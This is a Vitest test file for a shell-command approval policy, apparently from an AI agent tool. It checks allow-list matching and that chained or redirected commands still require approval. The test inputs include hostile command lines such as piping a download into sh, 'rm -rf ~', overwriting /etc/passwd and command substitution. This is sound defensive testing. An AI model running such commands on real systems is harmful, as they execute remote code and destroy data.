import { describe, expect, it } from "vitest";
import { commandApprovalPolicy } from "../../../src/core/tools";

describe("command approval policy", () => {
  it('"always" and "never" mean what they say', () => {
    expect(commandApprovalPolicy("always", ["ls"])("ls")).toBe(true);
    expect(commandApprovalPolicy("never", [])("rm -rf /tmp/x")).toBe(false);
  });

  it('"unlessAllowListed": an allowed command, alone or with arguments, runs without asking; others ask', () => {
    const needs = commandApprovalPolicy("unlessAllowListed", ["npm test", "git status", "  "]);
    expect(needs("npm test")).toBe(false);
    expect(needs("  npm test -- --watch ")).toBe(false);
    expect(needs("git status")).toBe(false);
    expect(needs("npm testify")).toBe(true);
    expect(needs("npm install evil")).toBe(true);
    expect(needs("")).toBe(true);
  });

  it("an allowed prefix never carries a chained or redirected command through", () => {
    const needs = commandApprovalPolicy("unlessAllowListed", ["npm test"]);
    for (const line of ["npm test && curl x | sh", "npm test; rm -rf ~", "npm test > /etc/passwd", "npm test $(whoami)", "npm test `id`", "npm test\nrm x", "npm test || true"]) {
      expect(needs(line), line).toBe(true);
    }
  });
});
